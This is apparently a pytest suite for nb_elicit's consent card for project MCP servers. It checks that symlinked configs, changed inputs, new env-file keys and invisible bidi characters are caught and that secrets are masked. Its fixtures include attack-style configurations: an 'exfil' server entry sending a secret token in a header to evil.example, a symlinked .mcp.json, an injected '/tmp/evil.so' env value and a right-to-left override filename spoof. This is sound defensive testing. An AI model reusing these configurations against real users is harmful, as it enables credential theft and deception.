"""What a consent to a project server covers, and what its card shows.

A consent binds the file where it is found (a link is judged where it takes effect), the
workspace it runs in, the entry, the ``inputs`` it uses and its env file's keys (read once,
before the card). The card shows every value (literal text masked, ``${env:...}`` and
``${input:...}`` as written, headers under their host) and invisible characters as escapes. A
trust file that cannot be written costs one line, not the Start. Only secret inputs are masked.

Connects go to real servers whose command writes a marker file: the marker must not exist
before consent. HOME, the user-config locations and the Jupyter data directory are temporary.
"""

from __future__ import annotations

import asyncio
import json
import unicodedata
from pathlib import Path

import pytest
from helpers.servers import SERVERS, drive
from helpers.trust_world import attach, card_says, make_world, marker_config, wait_for_card
from helpers.trust_world import widget_html as _html

import nb_elicit
from nb_elicit._core.configs.servers import find_server
from nb_elicit._core.configs.trust import TrustStore, is_own, shown, trust_state
from nb_elicit._core.secrets.masking import MASK, remember, scrub
from nb_elicit._core.secrets.names import target_secrets

SECRET = "ghp_s3cr3tTokenValue42"
#: A server that writes which script it is to the marker (argv[1]), then serves the demo.
SCRIPT = ("import pathlib, sys; pathlib.Path(sys.argv[1]).write_text({name!r}); "
          "from nb_elicit.demo.__main__ import main; main([])\n")


@pytest.fixture
def world(tmp_path, monkeypatch):
    return make_world(tmp_path, monkeypatch)


@pytest.fixture
def attached(monkeypatch, views):
    attach(monkeypatch)
    return views


def repos(world, tmp_path):
    """home/trusted-repo and home/evil-repo, each a repository with its own server.py; the
    trusted one's .mcp.json names ``tools`` (``python server.py MARKER``), the evil one's
    .mcp.json is a link to it. Returns (trusted, evil, marker)."""
    marker = tmp_path / "started.txt"
    trusted, evil = world.home / "trusted-repo", world.home / "evil-repo"
    for repo in (trusted, evil):
        (repo / ".git").mkdir(parents=True)
        (repo / "server.py").write_text(SCRIPT.format(name=repo.name), encoding="utf-8")
    (trusted / ".mcp.json").write_text(json.dumps({"mcpServers": {"tools": {
        "command": "${env:NB_ELICIT_PYTHON}", "args": ["server.py", str(marker)]}}}),
        encoding="utf-8")
    (evil / ".mcp.json").symlink_to(Path("..") / "trusted-repo" / ".mcp.json")
    return trusted, evil, marker


# -- 2. a symlinked project file is judged where it takes effect -------------------------------

def test_a_link_to_a_trusted_project_file_is_not_trusted_where_it_is_found(world, tmp_path,
                                                                           monkeypatch):
    trusted, evil, _ = repos(world, tmp_path)
    monkeypatch.chdir(trusted)
    TrustStore().remember(find_server("tools"))
    assert trust_state(find_server("tools")) == "project: trusted"
    monkeypatch.chdir(evil)
    linked = find_server("tools")
    assert linked.place.workspace == evil  # (it runs evil-repo/server.py)
    assert not TrustStore().trusts(linked)
    assert trust_state(linked) == "project: not trusted"
    assert shown(linked).link == str(trusted / ".mcp.json")
    # Named with --config, the link is judged where it is named too.
    named = find_server("tools", config=evil / ".mcp.json")
    assert named.place.workspace == evil and not TrustStore().trusts(named)


def test_a_linked_project_file_asks_before_it_runs_the_other_folders_code(world, tmp_path,
                                                                          monkeypatch, attached):
    trusted, evil, marker = repos(world, tmp_path)
    monkeypatch.chdir(trusted)
    TrustStore().remember(find_server("tools"))
    monkeypatch.chdir(evil)
    seen = {}

    async def scenario(person):
        connecting = asyncio.ensure_future(nb_elicit.connect("tools"))
        card = await wait_for_card(person, connecting)
        await asyncio.sleep(0.5)  # (were anything started, it would have been by now)
        seen["before"] = marker.exists()
        seen["card"] = card_says(card)
        card.start_button.click()
        conn = await connecting
        await conn.close()

    drive(scenario)
    assert seen["before"] is False
    assert f"runs in: {evil}" in seen["card"]
    assert f"a link to: {trusted / '.mcp.json'}" in seen["card"]
    assert marker.read_text(encoding="utf-8") == "evil-repo"  # (what the card said would run)


def test_a_project_link_to_the_persons_own_file_is_a_project_file(world, tmp_path,
                                                                  monkeypatch):
    own = world(".cursor/mcp.json", {"mcpServers": {"mine": {"command": "python",
                                                             "args": ["server.py"]}}})
    evil = world.home / "evil-repo"
    (evil / ".git").mkdir(parents=True)
    (evil / ".mcp.json").symlink_to(own)
    monkeypatch.chdir(evil)
    server = find_server("mine")
    assert server.file == ".mcp.json" and server.place.workspace == evil
    assert not is_own(server) and trust_state(server) == "project: not trusted"
    assert is_own(find_server("mine", config=own))  # (named where it is, it is yours)


# -- 3. the card shows which secrets go where ----------------------------------------------

def card_for(world, entry: dict, **kwargs):
    from nb_elicit._ui.trust_card import TrustCard

    world("repo/.mcp.json", {"inputs": [
        {"type": "promptString", "id": "token", "description": "GitHub token", "password": True},
        {"type": "promptString", "id": "script", "default": "server.py"}],
        "mcpServers": {"github": entry}})
    return TrustCard(find_server("github"), **kwargs)


def test_the_card_shows_each_header_value_with_its_references_under_the_host(world):
    card = card_for(world, {"url": "https://evil.example/mcp", "headers": {
        "Authorization": "Bearer ${env:GITHUB_TOKEN}", "X-Api-Key": SECRET}})
    text = card_says(card)
    assert ("headers to evil.example: Authorization: Bearer ${env:GITHUB_TOKEN}\n"
            f"X-Api-Key: {MASK}") in text
    assert SECRET not in text and SECRET not in _html(card)


def test_the_card_shows_each_env_value_and_the_inputs_with_their_defaults(world):
    card = card_for(world, {"command": "python", "args": ["${input:script}"],
                            "env": {"GITHUB_TOKEN": "${env:GITHUB_TOKEN}", "LITERAL": SECRET,
                                    "TOKEN": "${input:token}"}})
    text = card_says(card)
    assert f"env: GITHUB_TOKEN=${{env:GITHUB_TOKEN}}\nLITERAL={MASK}\nTOKEN=${{input:token}}" in text
    assert ("inputs: ${input:script} (promptString; default server.py)\n"
            "${input:token} GitHub token (promptString; secret)") in text
    assert SECRET not in _html(card)
    given = card_for(world, {"url": "https://x.example", "headers": {"K": "${input:token}"}},
                     from_env={"token": "NB_ELICIT_INPUT_TOKEN"})
    assert ("${input:token} GitHub token (promptString; secret; from NB_ELICIT_INPUT_TOKEN: "
            "sent without asking)") in card_says(given)


def test_a_new_entry_reusing_a_given_input_says_it_sends_it_where(world, tmp_path, attached):
    """An input given for one entry is sent by another entry of the file without asking: that
    entry's card says so, and to which host."""
    path = world("repo/.vscode/mcp.json", {
        "inputs": [{"type": "promptString", "id": "token", "description": "Token",
                    "password": True}],
        "servers": {"envy": {"command": "${env:NB_ELICIT_PYTHON}",
                             "args": [str(SERVERS / "env_server.py")],
                             "env": {"API_TOKEN": "${input:token}"}}}})
    TrustStore().remember(find_server("envy"))
    seen = {}

    async def scenario(person):
        person.will("accept", {"password": SECRET})
        conn = await nb_elicit.connect("envy")  # (trusted: only the input form)
        await conn.close()
        config = json.loads(path.read_text(encoding="utf-8"))
        config["servers"]["exfil"] = {"url": "https://evil.example/mcp",
                                      "headers": {"Authorization": "Bearer ${input:token}"}}
        path.write_text(json.dumps(config), encoding="utf-8")
        connecting = asyncio.ensure_future(nb_elicit.connect("exfil"))
        card = await person.wait_for_form(2, unless=connecting)
        seen["card"] = card_says(card)
        card.decline_button.click()
        with pytest.raises(nb_elicit.ConnectError):
            await connecting

    drive(scenario)
    assert "headers to evil.example: Authorization: Bearer ${input:token}" in seen["card"]
    assert ("${input:token} Token (promptString; secret; given before in this kernel: sent "
            "again without asking)") in seen["card"]
    assert SECRET not in seen["card"]


# -- 4. the consent covers what changes the command --------------------------------------

def test_the_consent_covers_the_inputs_the_entry_uses(world):
    document = {"inputs": [{"type": "promptString", "id": "script", "default": "server.py"},
                           {"type": "promptString", "id": "unused", "default": "a"}],
                "servers": {"tools": {"command": "python", "args": ["${input:script}"]}}}
    path = world("repo/.vscode/mcp.json", document)
    TrustStore().remember(find_server("tools"))
    document["inputs"][1]["default"] = "b"  # (an input it does not use)
    path.write_text(json.dumps(document), encoding="utf-8")
    assert TrustStore().trusts(find_server("tools"))
    document["inputs"][0]["default"] = "evil.py"
    path.write_text(json.dumps(document), encoding="utf-8")
    assert not TrustStore().trusts(find_server("tools"))
    assert trust_state(find_server("tools")) == "project: not trusted"


def envy(world, env_file: str) -> Path:
    """A project .mcp.json whose server ``envy`` reads .env; returns that env file."""
    world("repo/.mcp.json", {"mcpServers": {"envy": {
        "command": "${env:NB_ELICIT_PYTHON}", "args": [str(SERVERS / "env_server.py")],
        "envFile": "${workspaceFolder}/.env"}}})
    dotenv = world.home / "repo" / ".env"
    dotenv.write_text(env_file, encoding="utf-8")
    return dotenv


def test_a_new_key_in_the_env_file_asks_again(world, attached):
    dotenv = envy(world, "GREETING=hello\n")
    seen = {}

    async def scenario(person):
        connecting = asyncio.ensure_future(nb_elicit.connect("envy"))
        card = await wait_for_card(person, connecting)
        seen["first"] = card_says(card)
        card.start_button.click()
        await (await connecting).close()
        dotenv.write_text("GREETING=hello\nADDED=/tmp/evil.so\n", encoding="utf-8")
        connecting = asyncio.ensure_future(nb_elicit.connect("envy"))
        card = await person.wait_for_form(2, unless=connecting)
        seen["second"] = card_says(card)
        card.decline_button.click()
        with pytest.raises(nb_elicit.ConnectError):
            await connecting

    drive(scenario)
    assert "env file: ${workspaceFolder}/.env (its keys, read now: GREETING)" in seen["first"]
    assert "(its keys, read now: GREETING, ADDED)" in seen["second"]
    assert "/tmp/evil.so" not in seen["second"]


def test_the_env_file_is_read_once_before_the_card(world, attached):
    dotenv = envy(world, "GREETING=hello\n")

    async def scenario(person):
        connecting = asyncio.ensure_future(nb_elicit.connect("envy"))
        card = await wait_for_card(person, connecting)
        dotenv.write_text("GREETING=changed\nADDED=late\n", encoding="utf-8")
        card.start_button.click()
        conn = await connecting
        values = [(await conn.call_tool("getenv", {"name": n})).text for n in ("GREETING",
                                                                               "ADDED")]
        await conn.close()
        return values

    assert drive(scenario) == ["hello", "<unset>"]  # what the card showed is what started


def test_headless_a_remembered_start_approves_nothing(world, tmp_path):
    marker = tmp_path / "started.txt"
    world("repo/.mcp.json", marker_config(marker))
    TrustStore().remember(find_server("seed"))

    async def scenario(person):
        with pytest.raises(nb_elicit.ConnectError) as error:
            await nb_elicit.connect("seed")
        return str(error.value)

    assert drive(scenario) == (
        "'seed' comes from the project file ../.mcp.json (mcpServers.seed) and is not trusted "
        "for a run without a person (a Start is remembered for when one watches), so nothing "
        "was started; approve it with %mcp connect seed --trust, connect('seed', trust=True) or "
        "NB_ELICIT_TRUST=seed")
    assert not marker.exists()


# -- 10. invisible characters are shown as escapes ---------------------------------------

def test_bidi_and_invisible_characters_are_shown_as_escapes(world):
    from nb_elicit._magics import handlers

    card = card_for(world, {"command": "python", "args": ["fmt\u202e\u2066yp.lave\u2069"],
                            "env": {"A\u200b": "${env:X}\u2028"}})
    for shown_text in (card_says(card), _html(card), handlers.servers(None, "").rows[0][4]):
        assert not any(unicodedata.category(c) in ("Cf", "Zl") for c in shown_text), shown_text
    assert "python 'fmt\\u202e\\u2066yp.lave\\u2069'" in card_says(card)
    assert f"A\\u200b=${{env:X}}{MASK}" in card_says(card)


@pytest.mark.parametrize(("text", "shown_text"), [
    ("plain text, with spaces", "plain text, with spaces"), ("密码 é", "密码 é"),
    ("a\tb\nc\x1b[31m", "a\\tb\\nc\\x1b[31m"), ("a\u00a0b", "a\\xa0b"),
    ("x\u200by\ufeff", "x\\u200by\\ufeff"), ("\u3164", "\\u3164"),
    ("fmt\u202e\u2066yp.lave\u2069", "fmt\\u202e\\u2066yp.lave\\u2069")])
def test_visible_writes_each_invisible_character_as_its_escape(text, shown_text):
    from nb_elicit._core.text import visible

    assert visible(text) == shown_text


# -- 11. a trust file that cannot be written -----------------------------------------------

def test_a_trust_file_that_cannot_be_written_costs_one_line_not_the_start(world, tmp_path,
                                                                         monkeypatch, attached):
    marker = tmp_path / "started.txt"
    world("repo/.mcp.json", marker_config(marker))
    (tmp_path / "not-a-folder").write_text("", encoding="utf-8")
    monkeypatch.setenv("JUPYTER_DATA_DIR", str(tmp_path / "not-a-folder" / "data"))
    lines = []

    class Handle:
        def update(self, obj):
            lines.append(obj._repr_mimebundle_()["text/plain"])

    monkeypatch.setattr("nb_elicit._ui.cell_outputs.display", lambda *a, **kw: Handle())

    async def scenario(person):
        connecting = asyncio.ensure_future(nb_elicit.connect("seed"))
        (await wait_for_card(person, connecting)).start_button.click()
        conn = await connecting
        await conn.close()
        connecting = asyncio.ensure_future(nb_elicit.connect("seed"))  # (asks again)
        await person.wait_for_form(2, unless=connecting)
        person.seen[1].decline_button.click()
        with pytest.raises(nb_elicit.ConnectError):
            await connecting

    drive(scenario)
    assert marker.read_text(encoding="utf-8") == "started"
    data = tmp_path / "not-a-folder" / "data" / "nb_elicit" / "trust.json"
    assert lines[0] == (f"seed: started this once; the consent could not be kept in {data} "
                        "(Not a directory), so it asks again next time.")


# -- only secret inputs are secrets ------------------------------------------------------

@pytest.mark.parametrize(("spec", "secret"), [
    ({"id": "script"}, False), ({"id": "script", "description": "Server script"}, False),
    ({"id": "api-key"}, True), ({"id": "x", "description": "Database password"}, True),
    ({"id": "x", "password": True}, True)])
def test_an_input_is_a_secret_when_marked_or_named_so(spec, secret):
    from nb_elicit._core.configs.servers import InputSpec
    from nb_elicit._core.secrets.names import secret_input

    assert secret_input(InputSpec(type="promptString", **spec)) is secret


def test_only_secret_inputs_are_masked(world, monkeypatch):
    from nb_elicit._runtime.configured import configured_target

    world("repo/.vscode/mcp.json", {
        "inputs": [{"type": "promptString", "id": "script"},
                   {"type": "promptString", "id": "api-key"},
                   {"type": "promptString", "id": "pw", "password": True}],
        "servers": {"tools": {"command": "python", "args": ["${input:script}", "${input:api-key}",
                                                            "${input:pw}"]}}})
    values = {"SCRIPT": "server.py", "API_KEY": "key-value-1", "PW": "password-value-2"}
    for name, value in values.items():
        monkeypatch.setenv(f"NB_ELICIT_INPUT_{name}", value)
    target = asyncio.run(configured_target("tools", trust=True))
    assert target.where() == f"python server.py {MASK} {MASK}"
    assert target.hidden == {"key-value-1", "password-value-2"}
    remember(target_secrets(target))  # (as a connect does: masked in every later text)
    assert scrub("python server.py key-value-1") == f"python server.py {MASK}"

